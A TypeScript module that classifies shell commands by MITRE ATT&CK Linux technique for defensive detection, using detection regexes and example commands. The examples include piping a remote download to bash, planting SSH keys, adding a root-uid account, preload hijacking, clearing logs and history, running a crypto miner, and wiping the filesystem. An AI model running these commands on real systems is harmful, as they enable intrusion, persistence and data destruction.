/**
 * MITRE ATT&CK techniques of commands: what the words of a command tell, not what whoever typed it wants.
 *
 * A rule looks at the simple commands of a line, program and words, or at the text of the whole line. Ids and names are
 * those of ATT&CK for Enterprise v17 (Linux), https://attack.mitre.org; (c) The MITRE Corporation, used under its terms of
 * use.
 */
import { isWriting, piecesOf, purposeOfPiece } from "./purpose.ts";
import type { Purpose } from "./purpose-names.ts";

export interface Technique {
  /** `T1098.004` */
  readonly id: string;
  /** As ATT&CK calls it, a sub-technique behind its technique. */
  readonly name: string;
  readonly tactic: string;
  /** What is mostly meant by such a command. */
  readonly purpose: Purpose;
  /** The rule in words: "a command that ...". */
  readonly rule: string;
  readonly example: string;
  /** Programs, by name; with words behind them that have to match, or must not. */
  readonly programs?: string;
  readonly words?: RegExp;
  readonly not?: RegExp;
  /** A simple command of this purpose. */
  readonly isFor?: Purpose;
  /** Of the whole line; and places in a line that writes anywhere. */
  readonly text?: RegExp;
  readonly writes?: RegExp;
}

/** By tactic, in the order in which ATT&CK has them; a command may have several. */
export const TECHNIQUES: readonly Technique[] = [
  {
    id: "T1059.004", name: "Command and Scripting Interpreter: Unix Shell", tactic: "execution", purpose: "execution",
    rule: "hands a file or a stream to a shell", example: "curl -s http://203.0.113.7/x | bash",
    text: /\|\s{0,8}(?:sudo\s{1,8})?(?:\/[\w/]{0,32}\/)?(?:ba|da|a|z|k)?sh\b|(?:^|[;&|`\n(])\s{0,8}(?:(?:nohup|sudo)\s{1,8})?(?:\/[\w/]{0,32}\/)?(?:ba|da|a|z|k)?sh\s{1,8}[^-;|&\s]/,
  },
  {
    id: "T1059.006", name: "Command and Scripting Interpreter: Python", tactic: "execution", purpose: "execution",
    rule: "runs Python", example: "python3 x.py", programs: "python python2 python3",
  },
  {
    id: "T1098.004", name: "Account Manipulation: SSH Authorized Keys", tactic: "persistence", purpose: "persistence",
    rule: "writes to authorized_keys", example: 'echo "ssh-rsa AAAA..." >> ~/.ssh/authorized_keys',
    writes: /authorized_keys/,
  },
  {
    id: "T1136.001", name: "Create Account: Local Account", tactic: "persistence", purpose: "persistence",
    rule: "adds a user", example: "useradd -o -u 0 sys", programs: "useradd adduser",
  },
  {
    id: "T1053.003", name: "Scheduled Task/Job: Cron", tactic: "persistence", purpose: "persistence",
    rule: "changes what cron runs", example: "crontab /tmp/c", programs: "crontab", not: /(?:^|\s)-[lr]\b/,
    writes: /\/etc\/cron|\/var\/spool\/cron/,
  },
  {
    id: "T1543.002", name: "Create or Modify System Process: Systemd Service", tactic: "persistence", purpose: "persistence",
    rule: "writes or enables a unit of systemd", example: "systemctl enable x", programs: "systemctl", words: /^(?:--now )?enable\b/,
    writes: /\/systemd\/system/,
  },
  {
    id: "T1037.004", name: "Boot or Logon Initialization Scripts: RC Scripts", tactic: "persistence", purpose: "persistence",
    rule: "writes to rc.local or init.d", example: "echo /tmp/x >> /etc/rc.local", programs: "update-rc.d chkconfig",
    writes: /\/etc\/(?:rc\.local|rc\d?\.d|init\.d)/,
  },
  {
    id: "T1546.004", name: "Event Triggered Execution: Unix Shell Configuration Modification", tactic: "persistence", purpose: "persistence",
    rule: "writes to what a shell reads at its start", example: "echo /tmp/x >> ~/.bashrc",
    writes: /\.bashrc|\.bash_profile|\.profile|\/etc\/profile/,
  },
  {
    id: "T1574.006", name: "Hijack Execution Flow: Dynamic Linker Hijacking", tactic: "persistence", purpose: "persistence",
    rule: "names ld.so.preload", example: "echo /lib/x.so > /etc/ld.so.preload", text: /ld\.so\.preload/,
  },
  {
    id: "T1222.002", name: "File and Directory Permissions Modification: Linux and Mac File and Directory Permissions Modification",
    tactic: "defense evasion", purpose: "execution", rule: "changes rights or attributes of a file", example: "chmod 777 x", programs: "chmod chattr chown lockr",
  },
  {
    id: "T1070.002", name: "Indicator Removal: Clear Linux or Mac System Logs", tactic: "defense evasion", purpose: "cleanup",
    rule: "removes or empties a log", example: "rm -rf /var/log/wtmp",
    text: /(?:\b(?:rm|shred|truncate|unlink)\b[^;|&\n]{0,500}|>[^;|&\n>]{0,500})\/var\/(?:log|run\/utmp)|\becho\b[^;|&\n]{0,200}>\s{0,8}\/var\/log/,
  },
  {
    id: "T1070.003", name: "Indicator Removal: Clear Command History", tactic: "defense evasion", purpose: "cleanup",
    rule: "clears the history or turns it off", example: "unset HISTFILE; history -c",
    text: /\bhistory\s{1,8}-c|\bHIST(?:FILE|SIZE|FILESIZE|CONTROL)=|\bunset\b[^;|&\n]{0,200}\bHIST|\bset\s{1,8}\+o\s{1,8}history|(?:\brm\b|>)[^;|&\n]{0,200}_history/,
  },
  {
    id: "T1070.004", name: "Indicator Removal: File Deletion", tactic: "defense evasion", purpose: "cleanup",
    rule: "removes a file", example: "rm -rf x.sh", programs: "rm shred unlink",
  },
  {
    id: "T1562.001", name: "Impair Defenses: Disable or Modify Tools", tactic: "defense evasion", purpose: "cleanup",
    rule: "turns SELinux off", example: "setenforce 0", programs: "setenforce", text: /\/selinux\/config/,
  },
  {
    id: "T1562.004", name: "Impair Defenses: Disable or Modify System Firewall", tactic: "defense evasion", purpose: "cleanup",
    rule: "stops the firewall or changes its rules", example: "service iptables stop", programs: "iptables ip6tables nft ufw",
    text: /\b(?:iptables|firewalld|SuSEfirewall2|ufw)\s{1,8}(?:stop|disable)|\b(?:stop|disable)\s{1,8}(?:iptables|firewalld|ufw)|hosts\.deny/,
  },
  {
    id: "T1564.001", name: "Hide Artifacts: Hidden Files and Directories", tactic: "defense evasion", purpose: "cleanup",
    rule: "names a hidden file in a folder that anybody may write to", example: "cp x /tmp/.x",
    text: /\/(?:tmp|var\/tmp|dev\/shm|var\/run|run|mnt)\/\.[\w]/,
  },
  {
    id: "T1140", name: "Deobfuscate/Decode Files or Information", tactic: "defense evasion", purpose: "execution",
    rule: "decodes base64 or a cipher", example: "echo ... | base64 -d | sh", programs: "base64 openssl", words: /(?:^|\s)(?:-d|-D|--decode|enc)\b/,
  },
  {
    id: "T1003.008", name: "OS Credential Dumping: /etc/passwd and /etc/shadow", tactic: "credential access", purpose: "recon",
    rule: "reads /etc/shadow", example: "cat /etc/shadow", programs: "cat head tail grep cp less more", words: /\/etc\/shadow/,
  },
  {
    id: "T1033", name: "System Owner/User Discovery", tactic: "discovery", purpose: "recon",
    rule: "asks who is there", example: "whoami", programs: "whoami id w who last lastlog users",
  },
  {
    id: "T1057", name: "Process Discovery", tactic: "discovery", purpose: "recon",
    rule: "lists processes", example: "ps aux", programs: "ps top htop pgrep pidof",
  },
  {
    id: "T1082", name: "System Information Discovery", tactic: "discovery", purpose: "recon",
    rule: "asks for system, release, processor, memory, disks", example: "uname -a",
    programs: "uname lscpu free nproc df lsblk lspci lsusb dmidecode hostnamectl lsb_release uptime nvidia-smi arch dmesg getconf",
    text: /\/proc\/(?:cpuinfo|meminfo|version|mounts|uptime)|\/etc\/(?:issue|[\w-]{0,16}release)\b/,
  },
  {
    id: "T1016", name: "System Network Configuration Discovery", tactic: "discovery", purpose: "recon",
    rule: "asks for interfaces, routes, its own address", example: "ifconfig", programs: "ifconfig route arp ip iwconfig",
    text: /\/ip cloud print|\b(?:ipinfo\.io|ifconfig\.me|icanhazip\.com|api\.ipify\.org)\b/,
  },
  {
    id: "T1049", name: "System Network Connections Discovery", tactic: "discovery", purpose: "recon",
    rule: "lists connections", example: "netstat -tulpn", programs: "netstat ss",
  },
  {
    id: "T1046", name: "Network Service Discovery", tactic: "discovery", purpose: "recon",
    rule: "scans ports", example: "masscan 198.51.100.0/24 -p22", programs: "nmap masscan zmap zgrab",
  },
  {
    id: "T1083", name: "File and Directory Discovery", tactic: "discovery", purpose: "recon",
    rule: "lists or looks for files", example: "ls -la /", programs: "ls find locate dir whereis",
  },
  {
    id: "T1087.001", name: "Account Discovery: Local Account", tactic: "discovery", purpose: "recon",
    rule: "reads the accounts", example: "cat /etc/passwd", programs: "cat head tail grep less more getent", words: /\/etc\/passwd|^passwd\b/,
  },
  {
    id: "T1124", name: "System Time Discovery", tactic: "discovery", purpose: "recon", rule: "asks for the time", example: "date", programs: "date timedatectl",
  },
  {
    id: "T1021.004", name: "Remote Services: SSH", tactic: "lateral movement", purpose: "execution",
    rule: "logs in elsewhere", example: "ssh root@203.0.113.7", programs: "ssh sshpass", words: /[\w.-]@|\d\.\d/,
  },
  {
    id: "T1105", name: "Ingress Tool Transfer", tactic: "command and control", purpose: "download",
    rule: "fetches a file, or writes one from escaped bytes", example: "wget http://203.0.113.7/x", isFor: "download",
  },
  {
    id: "T1531", name: "Account Access Removal", tactic: "impact", purpose: "persistence",
    rule: "changes a password", example: 'echo "root:x" | chpasswd', programs: "chpasswd passwd usermod", not: /^-[Sl]\b/,
  },
  {
    id: "T1496", name: "Resource Hijacking", tactic: "impact", purpose: "execution",
    rule: "names a miner or a pool", example: "./xmrig -o stratum+tcp://pool:3333",
    text: /\b(?:xmrig|minerd|cpuminer|xmr-stak|ccminer|c3pool|nicehash|moneroocean|supportxmr|minexmr|nanopool)\b|stratum\+(?:tcp|ssl):/i,
  },
  {
    id: "T1489", name: "Service Stop", tactic: "impact", purpose: "cleanup",
    rule: "stops a service or kills processes by name", example: "pkill -9 secure.sh", programs: "pkill killall", words: /./,
    text: /\bservice\s{1,8}[\w.-]{1,64}\s{1,8}stop\b|\bsystemctl\s{1,8}(?:stop|disable)\b|\/etc\/init\.d\/[\w.-]{1,64}\s{1,8}stop\b/,
  },
  {
    id: "T1485", name: "Data Destruction", tactic: "impact", purpose: "cleanup",
    rule: "removes all files of the system, or overwrites a disk", example: "rm -rf /*",
    text: /\brm\s{1,8}(?:-\w{1,8}\s{1,8}){0,4}\/\*?(?:\s|;|$)|\bdd\b[^;|&\n]{0,200}\bof=\/dev\/(?:sd|hd|vd|mmc|nvme)/,
  },
  {
    id: "T1529", name: "System Shutdown/Reboot", tactic: "impact", purpose: "other",
    rule: "stops or restarts the machine", example: "reboot", programs: "reboot shutdown halt poweroff",
  },
];

const LOOKED_AT = 8192;
const byProgram = new Map<string, Technique[]>();
for (const technique of TECHNIQUES) {
  for (const program of technique.programs?.split(" ") ?? []) {
    const rules = byProgram.get(program);
    if (rules === undefined) byProgram.set(program, [technique]);
    else rules.push(technique);
  }
}

/** Ids of the techniques of a command, in the order of {@link TECHNIQUES}; empty where no rule fits. */
export function techniquesOf(command: string): string[] {
  const text = command.slice(0, LOOKED_AT);
  const found = new Set<string>();
  const purposes = new Set<Purpose>();
  for (const piece of piecesOf(text)) {
    const { program, args } = piece;
    const words = args.join(" ");
    purposes.add(purposeOfPiece(piece));
    for (const { id, words: wanted, not } of byProgram.get(program) ?? []) {
      if ((wanted?.test(words) ?? true) && !not?.test(words)) found.add(id);
    }
  }
  const writes = isWriting(text);
  const fits = ({ id, text: pattern, writes: places, isFor }: Technique) =>
    found.has(id) || pattern?.test(text) || (isFor !== undefined && purposes.has(isFor)) || (writes && places?.test(text));
  return TECHNIQUES.filter(fits).map(({ id }) => id);
}

export function techniqueById(id: string): Technique | undefined {
  return TECHNIQUES.find(technique => technique.id === id);
}

/** `T1105 Ingress Tool Transfer`; an id that is not in the table stands alone. */
export function techniqueName(id: string): string {
  const name = techniqueById(id)?.name;
  return name === undefined ? id : `${id} ${name}`;
}
